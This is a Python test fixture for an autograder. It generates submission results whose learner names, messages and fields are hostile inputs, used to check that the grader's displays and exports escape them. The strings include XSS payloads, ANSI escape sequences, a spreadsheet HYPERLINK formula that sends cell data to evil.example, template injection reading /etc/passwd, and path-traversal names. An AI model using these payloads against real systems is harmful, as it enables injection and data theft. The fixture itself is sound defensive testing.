"""Results full of attacks: names, messages and errors that turn on whoever shows them."""

from __future__ import annotations

from autograder.grading.results import CaseResult, CellResult, QuestionResult, SubmissionResult, Verdict

HTML = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>\"'></title></style><style>*{display:none}</style>"
)
ANSI = "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TEMPLATE = "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}"

NAMES = (
    HTML,
    ANSI,
    FORMULA,
    TEMPLATE,
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1+1",
    " =1+1",
    "'=1",
    "＝1+1",
    "a,b",
    'quo"te',
    "line\nbreak",
    "null\0byte",
    "../../etc/passwd",
    "..",
    ".",
    "/etc/passwd",
    "C:\\Windows\\x",
    "con",
    "nul.txt",
    "x" * 10_000,
    "é" * 10_000,
    "Ada",
    "ada",
    "ADA",
    "José",
    "Jose\u0301",
    "",
    " ",
    "\u202egnp.exe",
    "half \udce9",
    "trailing.",
    "trailing ",
    "-rf",
    "~root",
    "a/b",
    "a\\b",
    "a:b",
    "%2e%2e%2f",
    "#fragment?query",
)


def attacked(name: str, number: int = 0) -> SubmissionResult:
    """A submission by `name` in which every text is an attack."""
    text = f"{HTML}{ANSI}{TEMPLATE}`<b onclick=x>`\0 {name}"
    cases = (CaseResult(text, False, False, 1.0, text), CaseResult(text, False, True, 1.0, text))
    return SubmissionResult(
        learner=name,
        submission=f"{name}{number}.ipynb",
        assignment="02-preprocessing",
        status=Verdict.TIMEOUT,
        reason=text,
        questions=(QuestionResult(FORMULA, 0.0, 2.0, "in-place", cases, text),),
        cells=(CellResult(0, "raised", 0.1, text), CellResult(1, text, 0.1, "")),
        seconds=1.0,
        sandbox=text,
        output=text,
        flags=(text,),
        environment={text: text},
    )


def attackers() -> list[SubmissionResult]:
    """One submission for each of `NAMES`."""
    return [attacked(name, number) for number, name in enumerate(NAMES)]
